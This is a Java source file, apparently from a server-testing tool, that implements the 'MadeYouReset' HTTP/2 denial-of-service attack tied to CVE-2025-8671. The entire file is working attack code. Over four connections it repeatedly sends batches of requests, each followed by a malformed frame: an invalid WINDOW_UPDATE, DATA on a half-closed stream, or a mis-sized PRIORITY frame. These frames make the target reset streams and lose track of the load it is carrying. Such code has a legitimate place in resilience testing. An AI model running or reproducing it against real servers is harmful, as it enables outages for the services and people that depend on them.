package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Requests followed by a frame that makes the server reset the stream itself (CVE-2025-8671), by
 * which it loses count of what it works on.
 */
final class MadeYouReset implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int AT_ONCE = 100;
  private static final int PRIORITY = 0x2;

  @Override
  public String name() {
    return "MadeYouReset";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    AtomicInteger kinds = new AtomicInteger();
    attacker.repeat(CONNECTIONS, () -> provoke(attacker, kinds.getAndIncrement() % 4));
  }

  private static void provoke(Attacker attacker, int kind) throws IOException {
    byte[] head = attacker.door().cheapRequest().toBytes();
    Http2Connection connection = attacker.http2();
    while (!attacker.isOver()) {
      Frames frames = new Frames();
      for (int i = 0; i < AT_ONCE; i++) {
        int stream = connection.nextStream();
        frames.headers(stream, head, Frames.END_HEADERS | Frames.END_STREAM);
        switch (kind) {
          case 0 -> frames.windowUpdate(stream, 0);
          case 1 -> frames.windowUpdate(stream, Integer.MAX_VALUE);
          case 2 -> frames.data(stream, new byte[1], 0); // the stream is half closed
          default -> frames.frame(PRIORITY, 0, stream, new byte[4]); // which has 5 bytes
        }
      }
      connection.send(frames);
    }
  }
}
